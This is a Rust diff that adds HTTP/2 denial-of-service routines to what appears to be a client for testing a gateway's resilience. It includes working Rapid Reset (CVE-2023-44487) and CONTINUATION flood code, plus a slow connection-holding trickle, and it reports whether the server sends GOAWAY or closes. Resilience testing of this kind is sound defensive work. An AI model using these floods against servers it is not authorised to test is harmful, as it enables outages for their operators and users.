@@ -157,6 +157,149 @@ pub async fn exchange(spec: &ClientSpec, frames: &[Frame], timeout: Duration) ->
     }
 }
 
+/// An HTTP/2 flood: what is sent over and over on one connection.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Flood {
+    /// HEADERS (a complete GET) on a new stream, then RST_STREAM(CANCEL) on it (CVE-2023-44487).
+    RapidReset,
+    /// One HEADERS without END_HEADERS, then CONTINUATION frames of header fields that never
+    /// end (the 2024 CONTINUATION flood).
+    Continuation,
+}
+
+/// How a flood ended.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct FloodOutcome {
+    /// Frames written before the server stopped taking them (or the budget ran out).
+    pub frames_sent: usize,
+    /// Bytes written.
+    pub bytes_sent: usize,
+    /// The server sent GOAWAY.
+    pub goaway: bool,
+    /// The connection ended (EOF, reset or a write error).
+    pub closed: bool,
+    /// Failure before any frame could be sent (connect, ALPN).
+    pub error: Option<String>,
+}
+
+/// Floods one connection with `kind` for at most `budget` frames, reading concurrently; stops
+/// early once the server sends GOAWAY or closes, then waits up to `linger` for the close.
+pub async fn flood(spec: &ClientSpec, host: &str, kind: Flood, budget: usize, linger: Duration) -> FloodOutcome {
+    use std::sync::Arc;
+    use std::sync::atomic::{AtomicBool, Ordering};
+    use tokio::io::AsyncWriteExt as _;
+    let mut outcome = FloodOutcome::default();
+    let connection = match spec.connect().await {
+        Ok(c) => c,
+        Err(e) => {
+            outcome.error = Some(format!("connect: {e}"));
+            return outcome;
+        }
+    };
+    if connection.tls.get_ref().1.alpn_protocol() != Some(b"h2") {
+        outcome.error = Some("the gateway did not negotiate h2".into());
+        return outcome;
+    }
+    let (mut reader, mut writer) = tokio::io::split(connection.tls);
+    let goaway = Arc::new(AtomicBool::new(false));
+    let ended = Arc::new(AtomicBool::new(false));
+    let (seen_goaway, seen_end) = (goaway.clone(), ended.clone());
+    let reading = tokio::spawn(async move {
+        let mut buf = Vec::new();
+        let mut chunk = vec![0u8; 16 * 1024];
+        loop {
+            match reader.read(&mut chunk).await {
+                Ok(0) | Err(_) => break,
+                Ok(n) => buf.extend_from_slice(&chunk[..n]),
+            }
+            while buf.len() >= 9 {
+                let len = usize::from(buf[0]) << 16 | usize::from(buf[1]) << 8 | usize::from(buf[2]);
+                if buf.len() < 9 + len {
+                    break;
+                }
+                if buf[3] == 0x7 {
+                    seen_goaway.store(true, Ordering::SeqCst);
+                }
+                buf.drain(..9 + len);
+            }
+        }
+        seen_end.store(true, Ordering::SeqCst);
+    });
+    let request = fields(&[
+        (":method", "GET"),
+        (":scheme", "https"),
+        (":authority", host),
+        (":path", "/public/"),
+    ]);
+    let mut wire = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    wire.extend(frame(0x4, 0, 0, &[]));
+    if kind == Flood::Continuation {
+        wire.extend(frame(0x1, 0x0, 1, &hpack_literals(&request)));
+    }
+    // One block of junk header fields for CONTINUATION frames (about 8 KiB).
+    let junk: Vec<(Vec<u8>, Vec<u8>)> = (0..64)
+        .map(|i| (format!("x-flood-{i}").into_bytes(), vec![b'a'; 110]))
+        .collect();
+    let junk = hpack_literals(&junk);
+    let mut stream: u32 = 1;
+    while outcome.frames_sent < budget {
+        if goaway.load(Ordering::SeqCst) || ended.load(Ordering::SeqCst) {
+            break;
+        }
+        // A batch of frames per write, so the flood is not limited by syscalls.
+        for _ in 0..32 {
+            match kind {
+                Flood::RapidReset => {
+                    wire.extend(frame(0x1, 0x5, stream, &hpack_literals(&request)));
+                    wire.extend(frame(0x3, 0, stream, &8u32.to_be_bytes()));
+                    stream = stream.wrapping_add(2) & 0x7fff_ffff;
+                    outcome.frames_sent += 2;
+                }
+                Flood::Continuation => {
+                    wire.extend(frame(0x9, 0, 1, &junk));
+                    outcome.frames_sent += 1;
+                }
+            }
+        }
+        outcome.bytes_sent += wire.len();
+        if writer.write_all(&wire).await.is_err() {
+            outcome.closed = true;
+            break;
+        }
+        wire.clear();
+    }
+    let _ = tokio::time::timeout(linger, reading).await;
+    outcome.goaway = goaway.load(Ordering::SeqCst);
+    outcome.closed |= ended.load(Ordering::SeqCst);
+    outcome
+}
+
+/// Opens an HTTP/2 connection and keeps it busy without ever making a request: one
+/// WINDOW_UPDATE frame (increment 1, which the server does not answer) every `every`.
+/// Returns how long the gateway kept the connection open, or `None` if it was still open
+/// after `at_most`.
+pub async fn trickle_without_request(spec: &ClientSpec, every: Duration, at_most: Duration) -> Option<Duration> {
+    let started = tokio::time::Instant::now();
+    let mut connection = spec.connect().await.ok()?;
+    let mut wire = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    wire.extend(frame(0x4, 0, 0, &[]));
+    if connection.send(&wire).await.is_err() {
+        return Some(started.elapsed());
+    }
+    while started.elapsed() < at_most {
+        // Drain whatever the gateway sends (SETTINGS, GOAWAY); EOF means it let go.
+        let mut chunk = vec![0u8; 4096];
+        match tokio::time::timeout(every, connection.tls.read(&mut chunk)).await {
+            Ok(Ok(0)) | Ok(Err(_)) => return Some(started.elapsed()),
+            Ok(Ok(_)) | Err(_) => {}
+        }
+        if connection.send(&frame(0x8, 0, 0, &1u32.to_be_bytes())).await.is_err() {
+            return Some(started.elapsed());
+        }
+    }
+    None
+}
+
 /// Shorthand for a header field list from text.
 pub fn fields(pairs: &[(&str, &str)]) -> Vec<(Vec<u8>, Vec<u8>)> {
     pairs
